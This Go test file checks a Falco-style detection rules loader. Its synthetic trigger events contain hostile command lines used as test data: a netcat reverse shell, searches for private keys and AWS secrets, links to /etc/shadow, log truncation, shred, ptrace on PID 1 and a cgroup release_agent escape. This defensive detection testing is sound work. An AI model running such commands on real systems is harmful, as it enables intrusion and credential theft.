package falco

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vigilsec/vigil/receiver/ebpfreceiver/internal/rules"
)

// shapeCase is a rule of testdata/shapes.yaml with an event that must fire it and a
// look-alike that must not fire anything.
type shapeCase struct {
	rule      string
	trigger   *synth
	lookalike *synth
}

// alsoFires: other rules a trigger and its look-alike rightly fire (a server reading a secret
// is also an unexpected reader).
var alsoFires = map[string][]string{"Secret read by long-running server": {"Secret read by unexpected program"}}

func shapeCases() []shapeCase {
	return []shapeCase{
		{"Path traversal read",
			open("cat", "/etc/hosts", false, "fd.nameraw=/app/../../etc/hosts", "proc.pname=python3"),
			open("cat", "/etc/hosts", false, "fd.nameraw=/app/../etc/hosts", "proc.pname=python3")},
		{"Secret read by long-running server",
			open("nginx", "/etc/pam.d/common-auth", false),
			open("nginx", "/etc/pam.d/common-auth", false, "proc.duration=1000000000")},
		{"Secret read by unexpected program",
			open("python3", "/etc/sudoers", false, "proc.pname=bash"),
			open("python3", "/etc/sudoers", false, "proc.cmdline=python3 /usr/bin/ansible-playbook")},
		{"Shell from a service",
			exec("bash", "bash -c id", "proc.pname=nginx", "proc.aname=bash nginx systemd"),
			exec("bash", "bash -c exit", "proc.pname=nginx", "proc.aname=bash nginx systemd")},
		{"Service user logs in",
			exec("bash", "bash -i", "user.name=www-data", "proc.aname=bash sshd systemd"),
			exec("bash", "bash -i", "user.name=alice", "proc.aname=bash sshd systemd")},
		{"Interactive shell in a container",
			exec("sh", "sh", "proc.tty=34816", "proc.pname=runc:[1:CHILD]"),
			exec("sh", "sh", "proc.tty=0", "proc.pname=runc:[1:CHILD]")},
		{"Container talks to the API server",
			connect("curl", "curl https://kubernetes", "10.96.0.1", 443),
			connect("curl", "curl https://kubernetes", "10.96.0.1", 443, "k8s.ns.name=kube-system")},
		{"Netcat with a command",
			exec("nc", "nc -e /bin/sh 203.0.113.9 4444"),
			exec("nc", "nc 203.0.113.9 4444")},
		{"Private key search",
			exec("grep", "grep -r -l BEGIN RSA private /home"),
			exec("grep", "grep -r BEGIN /home")},
		{"Log truncated",
			open("bash", "/var/log/auth.log", true, "evt.arg.flags=O_WRONLY|O_TRUNC"),
			open("bash", "/var/log/auth.log", true, "evt.arg.flags=O_WRONLY|O_APPEND")},
		{"Disk wipe tool run",
			exec("shred", "shred -u secrets.txt"),
			exec("shredder", "shredder x")},
		{"Symlink to a secret",
			ev("file.symlink", append(proc("ln", "ln -s /etc/shadow x"), "evt.type=symlinkat", "evt.arg.target=/etc/shadow", "evt.arg.linkpath=/tmp/x")...),
			ev("file.symlink", append(proc("ln", "ln -s /etc/hosts x"), "evt.type=symlinkat", "evt.arg.target=/etc/hosts", "evt.arg.linkpath=/tmp/x")...)},
		{"Hard link to a secret",
			ev("file.link", append(proc("ln", "ln /etc/passwd x"), "evt.type=linkat", "evt.arg.oldpath=/etc/passwd", "evt.arg.newpath=/tmp/x")...),
			ev("file.link", append(proc("ln", "ln /etc/motd x"), "evt.type=linkat", "evt.arg.oldpath=/etc/motd", "evt.arg.newpath=/tmp/x")...)},
		{"Raw packet socket in container",
			ev("network.socket", append(proc("scapy", "scapy"), "evt.type=socket", "evt.arg.domain=AF_PACKET", "evt.arg.type=SOCK_RAW")...),
			ev("network.socket", append(proc("scapy", "scapy"), "evt.type=socket", "evt.arg.domain=AF_INET", "evt.arg.type=SOCK_RAW")...)},
		{"Standard stream onto a socket",
			ev("fd.dup", append(proc("bash", "bash -i"), "evt.type=dup2", "evt.rawres=1", "fd.type=ipv4", "fd.typechar=4", "fd.num=3")...),
			ev("fd.dup", append(proc("bash", "bash -i"), "evt.type=dup2", "evt.rawres=1", "fd.type=pipe", "fd.typechar=p", "fd.num=3")...)},
		{"Kernel module loaded from container",
			ev("kernel.module_load", append(proc("insmod", "insmod x.ko"), "evt.type=finit_module", "thread.cap_effective=CAP_SYS_ADMIN CAP_SYS_MODULE")...),
			ev("kernel.module_load", append(proc("insmod", "insmod x.ko"), "evt.type=finit_module", "container.id=host", "thread.cap_effective=CAP_SYS_MODULE")...)},
		{"Debugfs in a privileged container",
			exec("debugfs", "debugfs /dev/sda1", "container.privileged=true"),
			exec("debugfs", "debugfs /dev/sda1")},
		{"Cgroup release_agent written",
			open("sh", "/tmp/cgrp/release_agent", true, "user.uid=0", "thread.cap_effective=CAP_SYS_ADMIN"),
			open("sh", "/tmp/cgrp/release_agent", true, "user.uid=0", "thread.cap_effective=CAP_CHOWN")},
		{"Process traced",
			ev("process.ptrace", append(proc("gdb", "gdb -p 1"), "evt.type=ptrace", "evt.arg.request=PTRACE_ATTACH", "evt.arg.pid=1")...),
			ev("process.ptrace", append(proc("gdb", "gdb -p 1"), "evt.type=ptrace", "evt.arg.request=PTRACE_PEEKDATA", "evt.arg.pid=1")...)},
		{"Self trace",
			ev("process.ptrace", append(proc("packed", "packed"), "evt.type=ptrace", "evt.arg.request=PTRACE_TRACEME")...),
			ev("process.ptrace", append(proc("packed", "packed"), "evt.type=ptrace", "evt.arg.request=PTRACE_CONT")...)},
		{"Cloud credential search",
			exec("grep", "grep -ri AWS_SECRET_ACCESS_KEY /"),
			exec("grep", "grep -ri aws_region /")},
		{"Program run from shared memory",
			exec("x", "x", "proc.exe=/dev/shm/x"),
			exec("x", "x", "proc.exe=/dev/x")},
		{"Binary dropped and run in container",
			exec("miner", "miner", "proc.is_exe_upper_layer=true"),
			exec("miner", "miner", "proc.is_exe_upper_layer=true", "container.id=host")},
		{"SSH to an unusual port",
			connect("ssh", "ssh -p 443 user@203.0.113.9", "203.0.113.9", 443, "proc.exe=/usr/bin/ssh"),
			connect("ssh", "ssh -p 443 user@192.168.1.9", "192.168.1.9", 443, "proc.exe=/usr/bin/ssh")},
		{"Program run from a memfd",
			exec("x", "x", "proc.is_exe_from_memfd=true", "proc.exepath=memfd:x"),
			exec("runc", "runc init", "proc.is_exe_from_memfd=true", "proc.exepath=memfd:runc_cloned:/proc/self/exe")},
	}
}

func matched(t *testing.T, res *Result, e *synth) []string {
	t.Helper()
	preds := make([]*rules.Predicate, len(res.Rules))
	for i, r := range res.Rules {
		preds[i] = r.Predicate
	}
	var out []string
	for _, i := range rules.NewRuleset(preds).Match(e, nil) {
		out = append(out, res.Rules[i].Name)
	}
	return out
}

func TestShapesLoadAndFire(t *testing.T) {
	res := LoadFiles("testdata/shapes.yaml")
	require.Empty(t, res.Errors)
	require.Empty(t, res.Skipped)
	require.Equal(t, 25, res.Loaded())
	assert.Equal(t, []Note{{File: "testdata/shapes.yaml", Line: 4, Msg: "required_engine_version 0.50.0 is not checked"}}, res.Notes)
	cases := shapeCases()
	require.Len(t, cases, 25)
	for i, tc := range cases {
		assert.Equal(t, tc.rule, res.Rules[i].Name, "cases follow the file")
		assert.ElementsMatch(t, append([]string{tc.rule}, alsoFires[tc.rule]...), matched(t, res, tc.trigger), "trigger of %s", tc.rule)
		assert.ElementsMatch(t, alsoFires[tc.rule], matched(t, res, tc.lookalike), "look-alike of %s", tc.rule)
	}
	r := res.Rules[2]
	assert.Equal(t, "Secret read by unexpected program", r.Name)
	assert.Equal(t, Warning, r.Priority)
	assert.Equal(t, "shapes.yaml", r.Ruleset)
	assert.Equal(t, 127, r.Line)
	assert.Equal(t, []string{"filesystem"}, r.Tags)
	assert.Equal(t, "python3 read /etc/sudoers (cmd python3 /etc/sudoers, user app)",
		string(r.Output.Render(nil, open("python3", "/etc/sudoers", false))))
	// The exceptions: updatedb may read the listed files, children of dpkg anything.
	assert.Empty(t, matched(t, res, open("updatedb", "/etc/shadow", false)))
	assert.Equal(t, []string{r.Name}, matched(t, res, open("updatedb", "/etc/pam.d/x", false)))
	assert.Empty(t, matched(t, res, open("python3", "/etc/shadow", false, "proc.pname=dpkg")))
	assert.Equal(t, rules.KindsOf(rules.NetworkConnect, rules.NetworkSend), res.Rules[23].Predicate.Kinds())
}

func TestLocalOverrides(t *testing.T) {
	res := LoadFiles("testdata/shapes.yaml", "testdata/local.yaml")
	require.Empty(t, res.Errors)
	var skipped []string
	for _, s := range res.Skipped {
		skipped = append(skipped, s.String())
	}
	assert.Equal(t, []string{
		`testdata/local.yaml:61: rule "Appends to nothing": it appends to or overrides a rule that is not defined`,
		`testdata/local.yaml:138: rule "Overrides a missing key": it appends to or overrides a rule that is not defined`,
		`testdata/shapes.yaml:236: rule "Raw packet socket in container": disabled (enabled: false)`,
		`testdata/local.yaml:50: rule "Needs an unknown field": field fd.sip.name is not supported`,
		`testdata/local.yaml:54: rule "Audit log rule": source k8s_audit is not supported (only syscall rules load)`,
		`testdata/local.yaml:68: rule "Uses a broken macro": macro "broken" does not parse: testdata/local.yaml:66: in: list opened at 1:14 is not closed`,
		`testdata/local.yaml:76: rule "Unsensed call": evt.type mkdir, mkdirat is not sensed, so the condition can match no event`,
		`testdata/local.yaml:82: rule "Number compared as text": operator startswith is not supported by proc.pid (number; supported: = != < <= > >= in exists)`,
		`testdata/local.yaml:91: rule "Error inside a macro": in macro "bad_inside" at testdata/local.yaml:89: field fd.nope is not supported`,
		`testdata/local.yaml:97: rule "No priority": priority is missing`,
		`testdata/local.yaml:102: rule "Bad priority": priority "SEVERE" is not one of EMERGENCY, ALERT, CRITICAL, ERROR, WARNING, NOTICE, INFORMATIONAL, DEBUG`,
		`testdata/local.yaml:110: rule "Syntax error": condition: expected ) to close ( at 1:13, found end of condition`,
		`testdata/local.yaml:116: rule "Unknown macro": unknown macro known_good_thing`,
		`testdata/local.yaml:120: rule "Disabled but valid": disabled (enabled: false)`,
		`testdata/local.yaml:133: rule "Bad exception field": exceptions[0] "bad": field proc.nope is not supported`,
	}, skipped)
	assert.Equal(t, 24, res.Loaded())
	assert.True(t, res.Skipped[2].Disabled)
	assert.Contains(t, res.Notes, Note{File: "testdata/local.yaml", Line: 3, Msg: "required_plugin_versions ignored: plugins are not supported"})
	assert.Contains(t, res.Notes, Note{File: "testdata/local.yaml", Line: 120, Msg: `rule "Disabled but valid": output field fd.nope is not supported: it renders <NA>`})

	byName := map[string]*Rule{}
	for _, r := range res.Rules {
		byName[r.Name] = r
	}
	// list append (old style): fish is a shell now; macro append: so is busybox.
	assert.Equal(t, []string{"Shell from a service"}, matched(t, res, exec("fish", "fish -c id", "proc.pname=nginx", "proc.aname=fish nginx")))
	assert.Equal(t, []string{"Shell from a service"}, matched(t, res, exec("busybox", "busybox sh", "proc.pname=nginx", "proc.aname=busybox nginx")))
	// list override append: unix_chkpwd may read secrets.
	assert.Empty(t, matched(t, res, open("unix_chkpwd", "/etc/shadow", false)))
	// rule condition append.
	assert.Empty(t, matched(t, res, exec("shred", "shred x", "proc.pname=installer")))
	assert.Equal(t, []string{"Disk wipe tool run"}, matched(t, res, exec("shred", "shred x")))
	// exceptions appended to an existing exception and added.
	assert.Empty(t, matched(t, res, open("nscd", "/etc/shadow", false)))
	assert.Equal(t, []string{"Secret read by unexpected program"}, matched(t, res, open("nscd", "/etc/sudoers", false)))
	assert.Empty(t, matched(t, res, open("vault", "/etc/sudoers", false, "container.image.repository=docker.io/library/vault")))
	assert.Empty(t, matched(t, res, open("updatedb", "/etc/shadow", false)), "the original tuple still holds")
	// priority and output replaced.
	km := byName["Kernel module loaded from container"]
	assert.Equal(t, Critical, km.Priority)
	assert.Equal(t, "module loaded by %proc.name", km.OutputFormat)
	// legacy disable.
	assert.Nil(t, byName["Raw packet socket in container"])
}

func TestBadFilesDoNotStopOthers(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) string {
		p := filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(p, []byte(body), 0o600))
		return p
	}
	bad := write("bad.yaml", "- rule: x\n  condition: [unclosed\n")
	mapping := write("map.yaml", "rule: x\n")
	scalar := write("scalar.yaml", "- just a string\n")
	dup := write("dup.yaml", "- rule: x\n  rule: y\n")
	empty := write("empty.yaml", "")
	good := write("good.yaml", `- rule: Shell
  desc: a shell
  condition: evt.type = execve and proc.name = sh
  output: "%proc.cmdline"
  priority: notice
- rule: Shell
  desc: redefined
  condition: evt.type = execve and proc.name = bash
  output: "%proc.cmdline"
  priority: info
- item: what
- macro: ""
  condition: x
- list: l
  items: [a]
  append: true
`)
	res := LoadFiles(bad, mapping, filepath.Join(dir, "missing.yaml"), scalar, dup, empty, good)
	var errs []string
	for _, e := range res.Errors {
		errs = append(errs, e.Error())
	}
	assert.Equal(t, []string{
		filepath.Join(dir, "missing.yaml") + ": stat " + filepath.Join(dir, "missing.yaml") + ": no such file or directory",
		bad + ":1: invalid YAML: did not find expected ',' or ']'",
		mapping + ":1: a Falco rules file is a list of rule, macro and list items",
		scalar + ":1: item 0 is not a mapping",
		dup + ":2: item 0: key rule given twice",
	}, errs)
	require.Equal(t, 1, res.Loaded())
	r := res.Rules[0]
	assert.Equal(t, "redefined", r.Desc)
	assert.Equal(t, Informational, r.Priority)
	assert.Equal(t, 6, r.Line)
	var notes []string
	for _, n := range res.Notes {
		notes = append(notes, n.String())
	}
	assert.Equal(t, []string{
		good + `:6: rule "Shell" replaces the rule defined at ` + good + ":1",
		good + ":11: item ignored: it is not a rule, macro or list (keys: item)",
		good + ":12: macro ignored: its name must be a non-empty string",
		good + `:14: list "l" ignored: it appends to a list that is not defined`,
	}, notes)
}

func TestPriority(t *testing.T) {
	for s, want := range map[string]Priority{
		"EMERGENCY": Emergency, "alert": Alert, "Critical": Critical, "ERROR": Error, "warning": Warning,
		"NOTICE": Notice, "INFORMATIONAL": Informational, "info": Informational, "DEBUG": Debug,
	} {
		got, ok := ParsePriority(s)
		assert.True(t, ok, s)
		assert.Equal(t, want, got, s)
	}
	_, ok := ParsePriority("WARN")
	assert.False(t, ok)
	assert.Equal(t, 21, Critical.SeverityNumber())
	assert.Equal(t, "FATAL", Critical.SeverityText())
	assert.Equal(t, 13, Warning.SeverityNumber())
	assert.Equal(t, "WARN", Warning.SeverityText())
	assert.Equal(t, 10, Notice.SeverityNumber())
	assert.Equal(t, 5, Debug.SeverityNumber())
	prev := 25
	for p := Emergency; p <= Debug; p++ {
		assert.Less(t, p.SeverityNumber(), prev, p.String())
		prev = p.SeverityNumber()
	}
}
